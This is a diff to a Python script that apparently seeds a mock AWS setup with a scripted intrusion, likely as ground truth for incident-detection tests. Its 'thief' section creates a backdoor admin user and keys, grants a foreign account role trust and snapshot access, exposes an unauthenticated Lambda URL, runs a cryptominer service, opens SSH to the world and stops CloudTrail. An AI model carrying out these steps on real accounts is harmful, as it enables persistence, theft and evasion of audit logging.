@@ -61,7 +61,7 @@ def main(url):
     for account, role in ((shop, "build"), (data, "deploy"), (management, "billing-export")):
         owners[account]("iam").attach_role_policy(RoleName=role, PolicyArn=ADMIN)
 
-    ami = alice("ec2").describe_images(Filters=[{"Name": "virtualization-type", "Values": ["hvm"]}])["Images"][0]["ImageId"]
+    ami = "ami-0abcdef1234567890"
     for account, regions in ((shop, ("us-east-1", "eu-west-1", "eu-central-1")), (data, ("us-west-2", "us-east-1"))):
         for region in regions:
             spare("aws.ec2.instance", account, region, launch(owners[account], region, ami, "t3.large"))
@@ -76,8 +76,7 @@ def main(url):
     alice("s3").create_bucket(Bucket="shop-trail-bucket")
     alice("cloudtrail").create_trail(Name="house", S3BucketName="shop-trail-bucket")
     alice("cloudtrail").start_logging(Name="house")
-    function(alice, "eu-west-1", "checkout", shop)
-    spare("aws.lambda.function", shop, "eu-west-1", "checkout")
+    spare("aws.lambda.function", shop, "eu-west-1", function(alice, "eu-west-1", "checkout", shop))
     second("sts").get_caller_identity()
 
     # ---- the thief --------------------------------------------------------------------------------------------------------
@@ -100,14 +99,14 @@ def main(url):
     federated("ec2").describe_instances()
 
     iam = leaked("iam")
-    iam.create_user(UserName="backup-svc")
+    thiefs = iam.create_user(UserName="backup-svc")["User"]["Arn"]
     iam.attach_user_policy(UserName="backup-svc", PolicyArn=ADMIN)
     backdoor = Actor(url, plain(iam.create_access_key(UserName="backup-svc")["AccessKey"]))
     door(url, "source", {"key": backdoor.id, "address": THIEF})
     iam.create_login_profile(UserName="backup-svc", Password="Correct-Horse-7", PasswordResetRequired=False)
     specific = iam.create_service_specific_credential(UserName="backup-svc", ServiceName="bedrock.amazonaws.com")
     world["service_specific"] = specific["ServiceSpecificCredential"]["ServiceSpecificCredentialId"]
-    note("aws.iam.user", shop, "us-east-1", "backup-svc", "leaked")
+    note("aws.iam.user", shop, "us-east-1", thiefs, "leaked")
     iam.update_assume_role_policy(RoleName="data-pipeline", PolicyDocument=trust(f"arn:aws:iam::{STRANGER}:root"))
     world["touched"].append({"kind": "aws.iam.role", "account": shop, "id": "data-pipeline"})
 
@@ -126,27 +125,30 @@ def main(url):
 
     template = scale(deploy, "us-west-2", "workers", ami, 3, "p3.2xlarge")
     note("aws.autoscaling.group", data, "us-west-2", "workers", "deploy")
+    for each in deploy("autoscaling", "us-west-2").describe_auto_scaling_groups()["AutoScalingGroups"][0]["Instances"]:
+        note("aws.ec2.instance", data, "us-west-2", each["InstanceId"], "workers")
     note("aws.ec2.launch_template", data, "us-west-2", template, "deploy")
-    function(build, "eu-west-1", "helper", shop)
+    note("aws.lambda.function", shop, "eu-west-1", function(build, "eu-west-1", "helper", shop), "build")
     build("lambda", "eu-west-1").add_permission(
         FunctionName="helper", StatementId="public", Action="lambda:InvokeFunctionUrl", Principal="*", FunctionUrlAuthType="NONE")
-    build("lambda", "eu-west-1").create_function_url_config(FunctionName="helper", AuthType="NONE")
-    note("aws.lambda.function", shop, "eu-west-1", "helper", "build")
+    url_of = build("lambda", "eu-west-1").create_function_url_config(FunctionName="helper", AuthType="NONE")["FunctionUrl"]
+    note("aws.lambda.function_url", shop, "eu-west-1", url_of, "build")
     ecs = deploy("ecs", "us-east-1")
-    ecs.create_cluster(clusterName="batch")
-    ecs.register_task_definition(family="miner", containerDefinitions=[{"name": "m", "image": "example.com/m:1", "memory": 512}],
-                                 networkMode="awsvpc", requiresCompatibilities=["FARGATE"], cpu="4096", memory="8192")
-    ecs.create_service(cluster="batch", serviceName="miner", taskDefinition="miner", desiredCount=3, launchType="FARGATE")
-    note("aws.ecs.service", data, "us-east-1", "miner", "deploy")
-    note("aws.ecs.cluster", data, "us-east-1", "batch", "deploy")
+    cluster = ecs.create_cluster(clusterName="batch")["cluster"]["clusterArn"]
+    task = ecs.register_task_definition(family="miner", containerDefinitions=[{"name": "m", "image": "example.com/m:1", "memory": 512}],
+                                 networkMode="awsvpc", requiresCompatibilities=["FARGATE"], cpu="4096", memory="8192")["taskDefinition"]["taskDefinitionArn"]
+    service = ecs.create_service(
+        cluster="batch", serviceName="miner", taskDefinition="miner", desiredCount=3, launchType="FARGATE")["service"]["serviceArn"]
+    for kind, id in (("aws.ecs.service", service), ("aws.ecs.cluster", cluster), ("aws.ecs.task_definition", task)):
+        note(kind, data, "us-east-1", id, "deploy")
     snapshot = leaked("ec2").create_snapshot(VolumeId=volume)["SnapshotId"]
     leaked("ec2").modify_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission", OperationType="add", UserIds=[STRANGER])
     note("aws.ec2.snapshot", shop, "us-east-1", snapshot, "leaked")
     leaked("ec2").authorize_security_group_ingress(GroupId=group, IpPermissions=[
         {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
     world["touched"].append({"kind": "aws.ec2.security_group", "account": shop, "id": group})
-    leaked("ec2").create_key_pair(KeyName="backup")
-    note("aws.ec2.key_pair", shop, "us-east-1", "backup", "leaked")
+    pair = leaked("ec2").create_key_pair(KeyName="backup")["KeyPairId"]
+    note("aws.ec2.key_pair", shop, "us-east-1", pair, "leaked")
     leaked("cloudtrail").stop_logging(Name="house")
     world["touched"].append({"kind": "aws.cloudtrail.trail", "account": shop, "id": "house"})
 
@@ -184,9 +186,9 @@ def function(actor, region, name, account):
     packed = io.BytesIO()
     with zipfile.ZipFile(packed, "w") as files:
         files.writestr("index.py", "def test(event, context):\n    return 1\n")
-    actor("lambda", region).create_function(
+    return actor("lambda", region).create_function(
         FunctionName=name, Runtime="python3.12", Role=f"arn:aws:iam::{account}:role/function", Handler="index.test",
-        Code={"ZipFile": packed.getvalue()})
+        Code={"ZipFile": packed.getvalue()})["FunctionArn"]
 
 
 if __name__ == "__main__":
